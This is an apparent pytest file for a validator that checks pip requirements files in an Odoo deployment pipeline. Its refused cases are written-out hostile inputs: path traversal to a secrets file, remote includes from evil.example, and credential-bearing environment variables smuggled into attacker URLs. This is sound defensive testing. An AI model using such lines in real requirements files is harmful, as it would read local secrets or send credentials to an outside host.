"""What the requirements files of a commit may say to pip."""

from __future__ import annotations

from pathlib import Path

import pytest

from odooops_dagster.errors import StepFailed
from odooops_dagster.tools.odoo.requirement_rules import refuse_strange_requirements
from odooops_dagster.tools.odoo.requirements import fingerprint

HASH = "0" * 64


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """Return a commit's folder, beside which secrets lie."""
    root = tmp_path / "commit"
    (root / "lib").mkdir(parents=True)
    (root / "base.txt").write_text("roman\n")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "key").write_text("hush")
    return root


def asked(root: Path, text: str) -> None:
    """Ask whether a commit's requirements may say this."""
    (root / "requirements.txt").write_text(text)
    refuse_strange_requirements([root / "requirements.txt"], root=root)


@pytest.mark.parametrize(
    "line",
    [
        "roman==4.2",
        "roman[x] ; python_version > '3'",
        f"roman==4.2 --hash=sha256:{HASH}",
        f"roman==4.2 \\\n    --hash=sha256:{HASH} \\\n    --hash sha256:{HASH}",
        "-r base.txt",
        "-rbase.txt",
        "--constraint=base.txt",
        "-e ./lib",
        "lib/",
        "roman @ https://files.example/roman-4.2-py3-none-any.whl",
        "git+https://github.com/OCA/openupgradelib.git@master#egg=openupgradelib",
        "-e git+ssh://git@github.com/OCA/openupgradelib.git#egg=openupgradelib",
        "roman @ file:lib",
        "-i https://index.example/simple",
        "--extra-index-url=https://wheelhouse.odoo-community.org/oca-simple",
        "--find-links vendor\n--no-index",
        "--find-links https://files.example/",
        "--pre\n--prefer-binary\n--require-hashes\n--no-binary :all:\n--only-binary=roman",
        "roman --config-settings=a=b --global-option=x",
        "# --trusted-host evil.example",
        "roman  # ${PIP_INDEX_URL}",
        "private @ https://${NOBODY_GAVE_THIS}@files.example/x.whl",
        "${LOGNAME}",
        "-r 'no end",
        "x" * 5000 + "/",
    ],
)
def test_what_published_requirements_say_is_taken(root: Path, monkeypatch: pytest.MonkeyPatch, line: str) -> None:
    """What is wrong with it otherwise, pip says."""
    monkeypatch.setenv("PIP_INDEX_URL", "https://ada:hush@index.example/simple")
    monkeypatch.setenv("LOGNAME", "roman")
    asked(root, f"{line}\n")


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("-r {secrets}/key", "is outside of the repository"),
        ("-r../secrets/key", "is outside of the repository"),
        ("-r\t{secrets}/key", "is outside of the repository"),
        ("--requirement={secrets}/key", "is outside of the repository"),
        ("-c lib/../../secrets/key", "is outside of the repository"),
        ("-r file://{secrets}/key", "--requirement names an address"),
        ("-r https://evil.example/more.txt", "--requirement names an address"),
        ("-c https://evil.example/more.txt", "--constraint names an address"),
        ("--req={secrets}/key", "--req is no option that a repository may give to pip"),
        ("-f {secrets}", "is outside of the repository"),
        ("--find-links=file://{secrets}", "file: is no way to a package"),
        ("-e ../secrets", "is outside of the repository"),
        ("{secrets}/lib", "is outside of the repository"),
        ("roman @ file://{secrets}/lib", "file: is no way to a package"),
        ("git+file://{secrets}", "git+file: is no way to a package"),
        ("-e git+file://{secrets}#egg=x", "git+file: is no way to a package"),
        ("roman @ git+file://{secrets}", "git+file: is no way to a package"),
        ("-i file://{secrets}", "--index-url is no https address"),
        ("--trusted-host index.example", "--trusted-host is no option"),
        ("--use-feature=x", "--use-feature is no option"),
        ("--cert x", "--cert is no option"),
        ("roman --target=/tmp", "--target is no option"),
        ("${{PIP_INDEX_URL}}", "${{PIP_INDEX_URL}} is a setting of the platform"),
        ("roman @ https://evil.example/${{HTTPS_PROXY}}", "${{HTTPS_PROXY}} is a setting of the platform"),
        ("-i https://evil.example/${{PIP_EXTRA_INDEX_URL}}", "is a setting of the platform"),
        ("-r link", "link is outside of the repository"),
    ],
)
def test_what_reaches_beyond_the_commit_is_refused(
    root: Path, monkeypatch: pytest.MonkeyPatch, line: str, why: str
) -> None:
    """The message names the file and the line, also in a file that another one includes."""
    for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "HTTPS_PROXY"):
        monkeypatch.setenv(name, "https://ada:hush@index.example/simple")
    secrets = root.parent / "secrets"
    (root / "link").symlink_to(secrets / "key")
    (root / "base.txt").write_text(f"# ours\nroman\n{line.format(secrets=secrets)}\n")
    with pytest.raises(StepFailed) as caught:
        asked(root, "-r base.txt\n")
    assert str(caught.value).startswith("base.txt line 3: ")
    assert why.replace("{{", "{").replace("}}", "}") in str(caught.value)
    assert "hush" not in str(caught.value)


def test_a_requirements_file_that_is_a_link_to_elsewhere_is_refused(root: Path) -> None:
    """A checkout of an earlier version may have one."""
    (root / "requirements.txt").symlink_to(root.parent / "secrets" / "key")
    with pytest.raises(StepFailed, match=r"^requirements\.txt: is a link to a file outside of the repository$"):
        refuse_strange_requirements([root / "requirements.txt"], root=root)


def test_no_file_outside_of_the_commit_is_read_for_the_key(root: Path) -> None:
    """Its content would decide which environment is taken, and a folder such as / takes hours."""
    (root / "requirements.txt").write_text(f"-r {root.parent}/secrets/key\n--find-links=/usr\nroman\n")
    found = fingerprint([root / "requirements.txt"], within=root)
    assert [line.split()[0] for line in found] == ["requirements.txt"]
